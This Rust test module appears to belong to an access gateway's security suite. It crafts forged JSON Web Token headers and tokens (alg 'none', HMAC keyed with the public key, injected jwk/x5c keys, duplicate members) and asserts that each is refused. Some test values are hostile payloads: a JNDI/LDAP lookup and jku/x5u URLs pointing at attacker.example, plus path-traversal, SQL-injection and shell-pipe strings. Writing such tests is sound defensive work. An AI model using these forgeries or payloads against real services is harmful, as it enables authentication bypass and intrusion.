//! Attacks by way of the protected header: algorithm, key, extensions, repeated members.

use sidegate::lab::SigningKey;
use sidegate::model::Algorithm;
use sidegate::model::Denial::{
    AlgorithmRefused, KeyMismatch, KeyUnknown, SignatureInvalid, TokenHeaderRefused,
    TokenMalformed, TokenTypeRefused,
};

use super::Table;
use super::world::{b64, parts};

pub(super) fn add(table: &mut Table<'_>) {
    algorithms(table);
    confusion(table);
    kids(table);
    kinds(table);
    extensions(table);
    repeated(table);
}

#[expect(
    clippy::too_many_lines,
    reason = "a table: split up it would only be harder to read"
)]
fn algorithms(table: &mut Table<'_>) {
    let good = table.world.good();
    let [_, payload, signature] = parts(&good);
    let (payload, signature) = (payload.to_owned(), signature.to_owned());
    for none in ["none", "None", "NONE", "nOnE", "none ", ""] {
        let header = b64(format!(r#"{{"alg":"{none}","kid":"pomerium-1"}}"#));
        let unsigned = format!("{header}.{payload}.");
        // An empty part is refused before the header is read.
        table.token(
            TokenMalformed,
            format!("algorithm {none:?}, unsigned"),
            &unsigned,
        );
        let kept = format!("{header}.{payload}.{signature}");
        table.token(
            AlgorithmRefused,
            format!("algorithm {none:?}, old signature"),
            &kept,
        );
    }
    for other in [
        "es256",
        "ES-256",
        "ES256 ",
        "ES256K",
        "ES512",
        "EdDSA",
        "PS256",
        "RS384",
        "HS256",
        "HS384",
        "HS512",
        "RS1",
        "dir",
        "RSA-OAEP",
        "ECDH-ES",
        "ES256\\u0000",
    ] {
        let header = format!(r#"{{"alg":"{other}","kid":"pomerium-1"}}"#);
        table.header(
            AlgorithmRefused,
            format!("algorithm {other:?}, not listed"),
            &header,
        );
    }
    table.header(
        AlgorithmRefused,
        "algorithm missing",
        r#"{"kid":"pomerium-1"}"#,
    );
    table.header(
        KeyMismatch,
        "algorithm listed, but of another kind than the key",
        r#"{"alg":"RS256","kid":"pomerium-1"}"#,
    );
    for (name, value) in [
        ("a number", "256"),
        ("an array", r#"["ES256"]"#),
        ("an object", r#"{"name":"ES256"}"#),
        ("true", "true"),
    ] {
        let header = format!(r#"{{"alg":{value},"kid":"pomerium-1"}}"#);
        table.header(TokenHeaderRefused, format!("algorithm is {name}"), &header);
    }
    // Rightly signed with a key of the set, by an algorithm that the issuer may not use.
    let world = table.world;
    let unlisted = world
        .pomerium_claims()
        .sign(&world.pomerium_unlisted)
        .unwrap();
    table.token(
        AlgorithmRefused,
        "algorithm of a key in the set, not listed",
        &unlisted,
    );
    let header = r#"{"alg":"ES256","kid":"pomerium-384"}"#;
    table.header(
        KeyMismatch,
        "key in the set that no listed algorithm uses",
        header,
    );
}

/// The public key taken for a shared secret (CVE-2015-9235 and its many relatives).
fn confusion(table: &mut Table<'_>) {
    let world = table.world;
    for (kind, key) in [("RSA", &world.pomerium_rsa), ("EC", &world.pomerium)] {
        let pem = key.public_pem().unwrap();
        let der = key.public_der().unwrap();
        let jwk = key.jwk().unwrap().to_string();
        for (form, secret) in [
            ("PEM", pem.as_bytes()),
            ("PEM without its last line end", pem.trim_end().as_bytes()),
            ("DER", &der),
            ("JWK", jwk.as_bytes()),
        ] {
            for algorithm in [Algorithm::Hs256, Algorithm::Hs512] {
                let forger = SigningKey::from_secret(secret, algorithm, key.kid()).unwrap();
                let token = world.pomerium_claims().sign(&forger).unwrap();
                let name = format!("{algorithm} with the {kind} public key as {form}");
                table.token(AlgorithmRefused, name, &token);
            }
        }
    }
    // The same under a header that claims the listed algorithm.
    let pem = world.pomerium_rsa.public_pem().unwrap();
    let forger = SigningKey::from_secret(pem.as_bytes(), Algorithm::Hs256, None).unwrap();
    let payload = world.pomerium_claims().payload();
    let header = r#"{"alg":"RS256","kid":"pomerium-rsa"}"#;
    let token = forger.sign(header, payload.as_bytes()).unwrap();
    table.token(SignatureInvalid, "an HMAC under the name RS256", &token);
    for (name, secret) in [
        ("an empty", ""),
        ("a guessed", "secret"),
        ("a zero", "\0\0\0\0"),
    ] {
        let forger = SigningKey::from_secret(secret.as_bytes(), Algorithm::Hs256, None).unwrap();
        let token = world.spike_claims().sign(&forger).unwrap();
        let headers = [("x-spike-token", token.as_str())];
        table.request(SignatureInvalid, format!("{name} shared secret"), &headers);
    }
    let asymmetric = world.spike_claims().sign(&world.stranger).unwrap();
    let headers = [("x-spike-token", asymmetric.as_str())];
    table.request(
        AlgorithmRefused,
        "ES256 where a shared secret is expected",
        &headers,
    );
}

fn kids(table: &mut Table<'_>) {
    let long = "k".repeat(256);
    for (name, kid) in [
        ("unknown", "pomerium-2"),
        ("in other letters", "Pomerium-1"),
        ("with a blank behind it", "pomerium-1 "),
        ("a prefix of the right one", "pomerium"),
        ("empty", ""),
        ("a path", "../../../../dev/null"),
        ("an absolute path", "/proc/sys/kernel/randomize_va_space"),
        ("a file address", "file:///etc/passwd"),
        ("a web address", "https://attacker.example/jwks.json"),
        ("SQL", "x' UNION SELECT 'secret' --"),
        ("a shell command", "|/bin/true"),
        ("a template", "${jndi:ldap://attacker.example/a}"),
        ("a NUL byte behind the right one", "pomerium-1\\u0000"),
        ("a line feed", "pomerium-1\\nkid=pomerium-1"),
        ("a member of every object", "__proto__"),
        ("256 bytes long", long.as_str()),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#);
        table.header(KeyUnknown, format!("kid is {name}"), &header);
    }
    for (name, kid) in [
        ("257 bytes long", format!("\"{}\"", "k".repeat(257))),
        ("5000 bytes long", format!("\"{}\"", "k".repeat(5000))),
        ("a number", "1".to_owned()),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("an array", r#"["pomerium-1"]"#.to_owned()),
        ("an object", r#"{"kid":"pomerium-1"}"#.to_owned()),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":{kid}}}"#);
        table.header(TokenHeaderRefused, format!("kid is {name}"), &header);
    }
    let nameless = r#"{"alg":"ES256","typ":"JWT"}"#;
    let world = table.world;
    let payload = world.oidc_claims().payload();
    let key = world.oidc_key(Algorithm::Rs256);
    // One key of the set serves it, so the name is not needed; but it is another key's signature.
    let token = key.sign(nameless, payload.as_bytes()).unwrap();
    let value = format!("Bearer {token}");
    table.request(
        SignatureInvalid,
        "kid is missing",
        &[("authorization", &value)],
    );
    let foreign_kid = r#"{"alg":"ES256","kid":"partner-1"}"#;
    table.header(KeyUnknown, "kid is a key of another issuer", foreign_kid);
}

fn kinds(table: &mut Table<'_>) {
    for typ in [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "application/jose+json",
        "absent",
        "",
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"pomerium-1","typ":"{typ}"}}"#);
        table.header(
            TokenTypeRefused,
            format!("a token of type {typ:?}"),
            &header,
        );
    }
}

fn extensions(table: &mut Table<'_>) {
    let jwk = table.world.stranger.jwk().unwrap().to_string();
    let der = table.world.stranger.public_der().unwrap();
    let x5c = format!(r#"["{}"]"#, base64_standard(&der));
    for (name, member) in [
        ("crit with an unknown name", r#""crit":["x"],"x":1"#),
        ("crit with exp", r#""crit":["exp"]"#),
        ("crit with b64", r#""crit":["b64"],"b64":true"#),
        (
            "crit with b64 switched off",
            r#""crit":["b64"],"b64":false"#,
        ),
        ("crit empty", r#""crit":[]"#),
        ("crit null", r#""crit":null"#),
        ("crit a string", r#""crit":"exp""#),
        ("b64 off without crit", r#""b64":false"#),
        ("b64 on without crit", r#""b64":true"#),
        ("zip", r#""zip":"DEF""#),
        ("enc", r#""enc":"A256GCM""#),
        ("jku", r#""jku":"https://attacker.example/jwks.json""#),
        (
            "jku of the real issuer",
            r#""jku":"https://app.example.com/.well-known/jwks.json""#,
        ),
        ("x5u", r#""x5u":"https://attacker.example/cert.pem""#),
        ("jwk null", r#""jwk":null"#),
        ("jwk empty", r#""jwk":{}"#),
        ("x5c empty", r#""x5c":[]"#),
        ("typ a number", r#""typ":1"#),
        ("typ null", r#""typ":null"#),
        ("typ an array", r#""typ":["JWT"]"#),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"pomerium-1",{member}}}"#);
        table.header(TokenHeaderRefused, format!("header with {name}"), &header);
    }
    // The classical use: the attacker's key comes along, and the signature fits it.
    let world = table.world;
    let payload = world.pomerium_claims().payload();
    for (name, member) in [("jwk", jwk), ("x5c", x5c)] {
        let header = format!(r#"{{"alg":"ES256","kid":"pomerium-1","{name}":{member}}}"#);
        let token = world.stranger.sign(&header, payload.as_bytes()).unwrap();
        table.token(
            TokenHeaderRefused,
            format!("the attacker's own key in {name}"),
            &token,
        );
    }
    // Members that decide nothing, and must be what RFC 7515 says they are all the same.
    let header = r#"{"alg":"ES256","kid":"pomerium-1","x5t":7}"#;
    table.header(TokenMalformed, "x5t is a number", header);
    let header = r#"{"alg":"ES256","kid":"pomerium-1","x5t":"a+b"}"#;
    table.header(TokenMalformed, "x5t is no base64url", header);
    let header = r#"{"alg":"ES256","kid":"pomerium-1","cty":7}"#;
    table.header(TokenMalformed, "cty is a number", header);
}

fn repeated(table: &mut Table<'_>) {
    for (name, header) in [
        (
            "alg twice, none first",
            r#"{"alg":"none","alg":"ES256","kid":"pomerium-1"}"#,
        ),
        (
            "alg twice, none last",
            r#"{"alg":"ES256","alg":"none","kid":"pomerium-1"}"#,
        ),
        (
            "alg twice, the same",
            r#"{"alg":"ES256","alg":"ES256","kid":"pomerium-1"}"#,
        ),
        (
            "alg twice, once escaped",
            r#"{"alg":"ES256","\u0061lg":"none","kid":"pomerium-1"}"#,
        ),
        (
            "kid twice",
            r#"{"alg":"ES256","kid":"x","kid":"pomerium-1"}"#,
        ),
        (
            "typ twice",
            r#"{"alg":"ES256","typ":"JWT","typ":"JWT","kid":"pomerium-1"}"#,
        ),
        ("crit twice", r#"{"alg":"ES256","crit":["x"],"crit":["x"]}"#),
        (
            "an unknown member twice",
            r#"{"alg":"ES256","x":1,"x":1,"kid":"pomerium-1"}"#,
        ),
        (
            "a nested member twice",
            r#"{"alg":"ES256","x":{"a":1,"a":2},"kid":"pomerium-1"}"#,
        ),
    ] {
        table.header(TokenMalformed, format!("header with {name}"), header);
    }
}

fn base64_standard(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
